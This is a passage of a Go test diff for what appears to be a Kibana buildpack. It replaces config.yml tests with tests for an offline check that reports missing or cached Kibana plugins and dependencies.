+				"- plugin url-plugin (download from https://example.com/url-plugin.zip)",
+			} {
+				Expect(buffer.String()).To(ContainSubstring(line))
+			}
+			Expect(buffer.String()).NotTo(ContainSubstring("kibana-plugin-b"))
+			Expect(buffer.String()).NotTo(ContainSubstring("my-plugin"))
+			Expect(buffer.String()).To(ContainSubstring("The buildpack is not a cached buildpack"))
+		})
 
-			It("Writes the go version to config.yml", func() {
-				err = gs.WriteConfigYml()
-				Expect(err).To(BeNil())
+		It("reports plugins missing in the cached kibana-plugins dependency", func() {
+			mockManifest.EXPECT().IsCached().Return(false).AnyTimes()
+			writeArchive(filepath.Join(gs.DepCacheDir, "kibana-6.8.1"), "kibana-6.8.1-linux-x86_64/bin/kibana")
+			writeArchive(filepath.Join(gs.DepCacheDir, "kibana-plugins-6.8.1"), "kibana-plugin-c-6.8.1.zip")
 
-				cfg := getConfig()
-				Expect(cfg.Config.GoVersion).To(Equal("1.3.4"))
-			})
+			Expect(gs.CheckOffline()).To(HaveOccurred())
+			Expect(buffer.String()).To(ContainSubstring("- plugin kibana-plugin-a (not in the plugins folder, the kibana-plugins or the x-pack dependency)"))
+			Expect(buffer.String()).NotTo(ContainSubstring("- dependency"))
+		})
 
-			It("Writes the vendor tool to config.yml", func() {
-				err = gs.WriteConfigYml()
-				Expect(err).To(BeNil())
+		It("accepts dependencies and plugins from the application cache", func() {
+			mockManifest.EXPECT().IsCached().Return(false).AnyTimes()
+			writeArchive(filepath.Join(gs.DepCacheDir, "kibana-6.8.1"), "kibana-6.8.1-linux-x86_64/bin/kibana")
+			writeArchive(filepath.Join(gs.DepCacheDir, "kibana-plugins-6.8.1"), "./kibana-plugin-a-6.8.1.zip", "./README.md")
 
-				cfg := getConfig()
-				Expect(cfg.Config.VendorTool).To(Equal("glide"))
-			})
+			Expect(gs.CheckOffline()).To(Succeed())
+		})
 
-			It("Does not write the godep info to config.yml", func() {
-				err = gs.WriteConfigYml()
-				Expect(err).To(BeNil())
+		It("accepts dependencies and plugins of a cached buildpack", func() {
+			mockManifest.EXPECT().IsCached().Return(true).AnyTimes()
+			for _, uri := range []string{"https://artifacts.elastic.co/downloads/kibana/kibana-6.8.1-linux-x86_64.tar.gz", "https://example.com/kibana-plugins-6.8.1.zip"} {
+				archive := filepath.Join(buildpackDir, "dependencies", fmt.Sprintf("%x", md5.Sum([]byte(uri))), filepath.Base(uri))
+				writeArchive(archive, "kibana-plugin-a-6.8.1.zip")
+			}
 
-				cfg := getConfig()
-				Expect(cfg.Config.Godep).To(Equal(""))
-			})
+			Expect(gs.CheckOffline()).To(Succeed())
 		})
 	})
 })